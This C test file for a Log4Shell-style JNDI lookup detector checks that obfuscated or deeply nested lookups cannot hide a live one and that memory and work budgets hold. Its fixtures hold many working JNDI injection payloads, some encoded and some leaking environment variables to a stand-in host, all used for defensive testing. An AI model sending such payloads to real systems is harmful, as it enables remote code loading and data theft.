/* Fields made to cost: each is judged within the line's budget of work and of forms, and hides nothing that stands in another
 * field. Memory that runs out is a spent budget. Times are printed, never compared. */
#include "base/limits.h"
#include "detect/forms.h"
#include "detect/verdict.h"
#include "detect/weigh.h"
#include "support/edge.h"
#include "support/fault_alloc.h"
#include "support/random.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

enum { FIELD = 65536 };
#define LIVE CT_STR("${jndi:ldap://h.example/a}")

static ct_arena *line, *texts;

static int set_up(void **state)
{
    (void)state;
    return ct_arena_new(&ct_alloc_libc, CT_LINE_ARENA_MAX, &line) != CT_OK || ct_arena_new(&ct_alloc_libc, 64u << 20, &texts) != CT_OK;
}

static int tear_down(void **state)
{
    (void)state;
    ct_arena_free(line);
    ct_arena_free(texts);
    return 0;
}

static double now_ms(void)
{
    struct timespec t;
    (void)clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t);
    return (double)t.tv_sec * 1e3 + (double)t.tv_nsec / 1e6;
}

/* One unit again and again, then another as often where `half`: nesting. */
struct poison {
    const char *name, *prefix, *open, *close, *suffix;
    size_t times; /* 0: as often as fits */
};

static const struct poison poisons[] = {
    {"openers", "", "${", "", "", 0},
    {"openers of jndi", "${", "jndi:", "", "", 0},
    {"lookups", "", "${a}", "", "", 0},
    {"jndi lookups", "", "${jndi:x}", "", "", 0},
    {"escaped lookups", "", "$${a}", "", "", 0},
    {"escapes", "", "$", "", "{a}", 0},
    {"nested 900 deep", "", "${", "}", "", 900},
    {"nested 5000 deep", "", "${", "}", "", 5000},
    {"nested as deep as fits", "", "${", "}", "", 0},
    {"lower in lower", "", "${lower:", "}", "x", 0},
    {"defaults in defaults", "", "${a:-", "}", "x", 0},
    {"defaults of 900", "", "${a:-", "}", "x", 900},
    {"empty names", "", "${::-", "}", "$", 0},
    {"hidden letters", "${", "${::-j}", "", "}", 0},
    {"case chain", "${", "${lower:j}${upper:n}", "", "}", 0},
    {"doubling names", "", "${a:-${b:-", "}}", "", 0},
    {"message in message", "", "${event:Message}", "", "", 0},
    {"dates", "", "${date:yyyyMMdd}", "", "", 0},
    {"dates of letters", "${date:", "y", "", "}", 0},
    {"sharp s", "${upper:", "\xc3\x9f", "", "}", 0},
    {"environment", "", "${env:A}", "", "", 0},
    {"environment in a name", "${jndi:ldap://", "${env:A}.", "", "h.example/}", 0},
    {"defaults of the environment", "${jndi:ldap://h.example/", "${env:A:-b}", "", "}", 0},
    {"open braces", "${a:-", "{", "", "}", 0},
    {"closing braces", "${", "}", "", "", 0},
    {"percent tower", "%", "25", "", "24{", 0},
    {"percent towers", "", "%252524%25257B", "", "", 0},
    {"percent escapes", "", "%24%7Ba%7D", "", "", 0},
    {"ampersand tower", "&", "amp;", "", "#36;{", 0},
    {"ampersand towers", "", "&amp;amp;amp;#36;{", "", "", 0},
    {"backslash tower", "", "\\", "", "u0024{", 0},
    {"mixed layers", "", "%26%2336;\\u0025&#37;24+{", "", "", 0},
    {"orders that differ", "", "%5Cx26&#92;x25\\x26#37;%26#92;", "", "", 0},
    {"half escapes", "", "%2%35%&#50;4\\u00%32%34", "", "", 0},
    {"base64 of words", "", "dGhpcyBpcyBhIHBsYWluIHNlbnRlbmNl ", "", "", 0},
    {"base64 of lookups", "", "JHthOi0keztiOi1jfX0gJHthOi19 ", "", "", 0},
    {"base64 without end", "", "JHthJHth", "", "", 0},
    {"plus signs", "%24", "+", "", "", 0},
    {"blobs", "", "${base64:JHthJHthJHthJHthJHthJHth}", "", "", 0},
    {"parameters", "/?", "a=${a}&", "", "", 0},
    {"encoded parameters", "/?", "a=%24%7B&", "", "", 0},
};

static ct_str make(const struct poison *p)
{
    struct ct_buf b;
    size_t unit = strlen(p->open) + strlen(p->close), room = FIELD - strlen(p->prefix) - strlen(p->suffix);
    size_t n = p->times ? p->times : room / unit;
    ct_buf_init(&b, texts, FIELD);
    ct_buf_text(&b, p->prefix);
    for (size_t i = 0; i < n; i++) ct_buf_text(&b, p->open);
    ct_buf_text(&b, p->suffix);
    for (size_t i = 0; i < n && *p->close; i++) ct_buf_text(&b, p->close);
    ct_str s;
    assert_int_equal(ct_buf_str(&b, &s), CT_OK);
    return s;
}

/* Distinct values, each a form of its own. */
static ct_str distinct_base64(void)
{
    static const char set[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    struct ct_buf b;
    ct_buf_init(&b, texts, FIELD);
    for (unsigned i = 0; b.n + 64 < FIELD; i++) {
        unsigned char plain[25];
        (void)snprintf((char *)plain, sizeof plain, "%%24 %08u ${abcdefgh", i);
        for (size_t k = 0; k < 21; k += 3) {
            uint32_t v = (uint32_t)plain[k] << 16 | (uint32_t)plain[k + 1] << 8 | plain[k + 2];
            for (unsigned shift = 24; shift > 0; shift -= 6) ct_buf_byte(&b, (unsigned char)set[v >> (shift - 6) & 63]);
        }
        ct_buf_byte(&b, ' ');
    }
    return ct_buf_view(&b);
}

static struct ct_verdict judge(const struct ct_field *fields, size_t n, double *ret_ms)
{
    struct ct_judge_opts opts = {0};
    struct ct_verdict v;
    ct_arena_clear(line);
    double start = now_ms();
    assert_int_equal(ct_judge(line, &opts, fields, n, &v), CT_OK);
    *ret_ms = now_ms() - start;
    return v;
}

static double worst;
static unsigned hidden;

static void hides_nothing(const char *name, ct_str poison)
{
    static const size_t orders[][2] = {{0, 1}, {1, 0}};
    struct ct_field fields[2] = {{CT_STR("poison"), poison}, {CT_STR("live"), LIVE}};
    double ms, alone;
    struct ct_verdict v = judge(fields, 1, &alone);
    print_message("%-28s %6.1f ms  %s, %s, traits %x\n", name, alone, ct_grade_name(v.grade), ct_certainty_name(v.certainty), v.traits);
    if (alone > worst) worst = alone;
    for (unsigned i = 0; i < 2; i++) {
        struct ct_field ordered[2] = {fields[orders[i][0]], fields[orders[i][1]]};
        v = judge(ordered, 2, &ms);
        if (v.grade == CT_GRADE_EXPLOIT && v.certainty == CT_CERTAIN) continue;
        hidden++;
        print_error("FAIL %s: a live lookup %s it is %s, %s", name, i ? "before" : "behind", ct_grade_name(v.grade), ct_certainty_name(v.certainty));
    }
}

static void poison_hides_nothing(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof poisons / sizeof *poisons; i++) {
        ct_arena_clear(texts);
        hides_nothing(poisons[i].name, make(&poisons[i]));
    }
    hides_nothing("distinct base64", distinct_base64());
    print_message("worst: %.1f ms\n", worst);
    assert_int_equal(hidden, 0);
}

/* As many fields as a record may have, each of them poison, the live one last. */
static void many_poisoned_fields(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof poisons / sizeof *poisons; i++) {
        ct_arena_clear(texts);
        struct ct_field fields[CT_FIELDS_MAX];
        ct_str text = make(&poisons[i]);
        double ms;
        for (size_t k = 0; k < CT_FIELDS_MAX; k++) fields[k] = (struct ct_field){CT_STR("poison"), text};
        fields[CT_FIELDS_MAX - 1].value = LIVE;
        struct ct_verdict v = judge(fields, CT_FIELDS_MAX, &ms);
        print_message("%-28s %6.1f ms\n", poisons[i].name, ms);
        if (v.grade == CT_GRADE_EXPLOIT) continue;
        hidden++;
        print_error("FAIL 64 times %s: %s, %s", poisons[i].name, ct_grade_name(v.grade), ct_certainty_name(v.certainty));
    }
    assert_int_equal(hidden, 0);
}

/* Parameters by the thousand, the live one among the last. Where each is made to cost, its share may be too small to be sure;
 * then that is said. */
static void many_poisoned_parameters(void **state)
{
    (void)state;
    static const struct { const char *part; bool dear; } rows[] = {
        {"a=${a}&", false}, {"%24%7Ba%7D=1&", false}, {"a=${sys:a}%25${a[%252524${a&", true}, {"a=%24}${sys:a}\\\\\\x&amp;amp;", true},
        {"${env:&#\\\"&", true}, {"a=${event:Message}%252524x%24${lower:&", true},
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct ct_buf b;
        double ms;
        ct_arena_clear(texts);
        ct_buf_init(&b, texts, FIELD);
        ct_buf_text(&b, "/?");
        while (b.n + 200 < FIELD) ct_buf_text(&b, rows[i].part);
        ct_buf_text(&b, "&x=%24%7B${lower:j}ndi${::-:}ldap://h.example/a}&y=1");
        struct ct_field field = {CT_STR("url.original"), ct_buf_view(&b)};
        struct ct_verdict v = judge(&field, 1, &ms);
        print_message("%-28s %6.1f ms  %s, %s\n", rows[i].part, ms, ct_grade_name(v.grade), ct_certainty_name(v.certainty));
        if (v.grade != CT_GRADE_EXPLOIT) assert_true(rows[i].dear && v.certainty == CT_UNKNOWN && (v.traits & CT_TRAIT_BUDGET));
    }
}

/* Counted, not timed: what one field takes from the line's work, and how many forms are made. */
static void budgets_hold(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof poisons / sizeof *poisons; i++) {
        ct_arena_clear(texts);
        ct_arena_clear(line);
        ct_str text = make(&poisons[i]);
        uint64_t work = CT_EVAL_WORK_MAX;
        struct ct_verdict v = {0};
        struct ct_arena_mark mark = ct_arena_mark(line);
        ct_weigh(line, NULL, text, &work, &v);
        assert_true(work <= CT_EVAL_WORK_MAX);
        ct_arena_reset(line, mark);
        struct ct_forms forms;
        const struct ct_form *form;
        size_t n = 0;
        uint64_t left = CT_FORMS_WORK_MAX;
        assert_int_equal(ct_forms_start(&forms, line, text, &left, false), CT_OK);
        for (;; n++) {
            ct_err e = ct_forms_next(&forms, &form);
            if (e == CT_ERR_NOMEM) break;
            assert_int_equal(e, CT_OK);
            if (!form) break;
            assert_in_range(form->text.n, 0, FIELD);
            assert_in_range(form->n_chain, 0, CT_LAYERS_MAX);
        }
        assert_in_range(n, 1, CT_FORMS_MAX);
    }
}

/* The n-th allocation fails, once or from then on: out of memory is said, and a live lookup is never silently none. */
static void memory_runs_out(void **state)
{
    (void)state;
    static const ct_str texts_of[] = {
        CT_STR_INIT("${jndi:ldap://h.example/a}"),
        CT_STR_INIT("%24%7B%24%7Blower%3Aj%7Dndi:ldap://${env:USER}.h.example/a%7D"),
        CT_STR_INIT("/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D"),
        CT_STR_INIT("${ jndi:ldap://h.example/a}"),
        CT_STR_INIT("${${ctx:u}}"),
    };
    unsigned failed = 0;
    for (size_t t = 0; t < sizeof texts_of / sizeof *texts_of; t++)
        for (unsigned persistent = 0; persistent < 2; persistent++)
            for (unsigned n = 0;; n++) {
                struct fault_alloc f;
                ct_arena *a;
                struct ct_field fields[] = {{CT_STR("0"), texts_of[t]}, {CT_STR("1"), CT_STR("}")}};
                struct ct_judge_opts opts = {0};
                struct ct_verdict v = {0};
                fault_alloc_init(&f, n, persistent);
                ct_err e = ct_arena_new(&f.alloc, CT_LINE_ARENA_MAX, &a);
                if (e == CT_OK) {
                    e = ct_judge(a, &opts, fields, 2, &v);
                    ct_arena_free(a);
                }
                assert_int_equal(f.live, 0);
                if (!f.failed) {
                    assert_int_equal(e, CT_OK);
                    break;
                }
                failed++;
                assert_true(e == CT_OK || e == CT_ERR_NOMEM);
                if (e == CT_OK && !(v.traits & CT_TRAIT_BUDGET)) fail_msg("text %zu, allocation %u: %s without a word", t, n, ct_grade_name(v.grade));
                if (e == CT_OK && v.grade < CT_GRADE_EXPLOIT) assert_int_equal(v.certainty, CT_UNKNOWN);
            }
    print_message("%u allocations failed\n", failed);
}

/* An arena of every size: the same promise where the limit is met inside one large allocation. */
static void small_arenas(void **state)
{
    (void)state;
    struct ct_field field = {CT_STR("0"), CT_STR("%24%7B${::-j}%24%7Blower%3An%7Ddi:ldap://h.example/a%7D &amp;#36;{x} %2524%257B")};
    for (size_t limit = 1024; limit < 400000; limit += limit / 16) {
        ct_arena *a;
        struct ct_judge_opts opts = {0};
        struct ct_verdict v;
        if (ct_arena_new(&ct_alloc_libc, limit, &a) != CT_OK) continue;
        ct_err e = ct_judge(a, &opts, &field, 1, &v);
        assert_true(e == CT_OK || e == CT_ERR_NOMEM);
        if (e == CT_OK && v.grade != CT_GRADE_EXPLOIT) {
            assert_true(v.traits & CT_TRAIT_BUDGET);
            assert_int_equal(v.certainty, CT_UNKNOWN);
        }
        ct_arena_free(a);
    }
}

/* Every prefix and every suffix of attacks, flush against an unreadable page. */
static void reads_nothing_behind_the_end(void **state)
{
    (void)state;
    static const ct_str attacks[] = {
        CT_STR_INIT("${${::-j}${lower:n}d${upper:i}:ldap://${env:USER}.h.example/${date:yyyy}}"),
        CT_STR_INIT("%24%7Bjndi:ldap://h.example/a%7D%u0024%2524&#36;{&dollar;&#x24;\\u0024\\u{24}\\x24\\044\\\\"),
        CT_STR_INIT("/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D&e=SGVsbG8gd29ybGQsIHRoaXMgaXMgdGV4dA=="),
        CT_STR_INIT("${base64:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=}${date:'jndi'}${upper:\xc4\xb1\xc3\x9f}${lower:\xe2\x84\xaa\xc4\xb0}$${"),
    };
    for (size_t t = 0; t < sizeof attacks / sizeof *attacks; t++)
        for (size_t n = 0; n <= attacks[t].n; n++) {
            struct edge head = edge_new(ct_str_slice(attacks[t], 0, n)), tail = edge_new(ct_str_slice(attacks[t], n, attacks[t].n));
            struct ct_field fields[] = {{CT_STR("0"), head.input}, {CT_STR("1"), tail.input}};
            struct ct_judge_opts opts = {0};
            struct ct_verdict v;
            ct_arena_clear(line);
            assert_int_equal(ct_judge(line, &opts, fields, 2, &v), CT_OK);
            edge_free(&head);
            edge_free(&tail);
        }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(poison_hides_nothing), cmocka_unit_test(many_poisoned_fields), cmocka_unit_test(many_poisoned_parameters), cmocka_unit_test(budgets_hold),
        cmocka_unit_test(memory_runs_out),      cmocka_unit_test(small_arenas),         cmocka_unit_test(reads_nothing_behind_the_end),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
